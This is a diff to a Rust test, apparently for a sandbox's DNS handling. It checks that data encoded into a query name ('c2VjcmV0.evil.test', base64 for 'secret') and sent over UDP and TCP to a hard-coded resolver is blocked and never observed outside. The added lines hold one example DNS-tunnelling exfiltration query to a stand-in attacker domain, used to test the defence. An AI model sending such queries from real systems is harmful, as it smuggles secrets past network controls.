@@ -145,10 +145,21 @@ fn a_hard_coded_resolver_is_answered_by_the_agent() {
             }
         }
     }
+    // Data in a query name (DNS tunnelling) to the hard-coded resolver,
+    // over UDP and TCP: NXDOMAIN from the agent, nobody else sees it.
+    for proto in ["udp", "tcp"] {
+        let (r, out) = t.py(&sb, &["dns", HARD_V4, "53", "c2VjcmV0.evil.test", "A", proto]);
+        assert_eq!(r["rcode"], 3, "{proto}: {r} {}", out.describe());
+    }
     assert_eq!(
         decoy.queries(),
         vec!["allowed.test".to_string()],
         "a sandboxed query reached the hard-coded resolver"
+    );
+    assert!(
+        !t.lab.dns_queries().iter().any(|n| n.contains("c2VjcmV0")),
+        "{:?}",
+        t.lab.dns_queries()
     );
 }
 
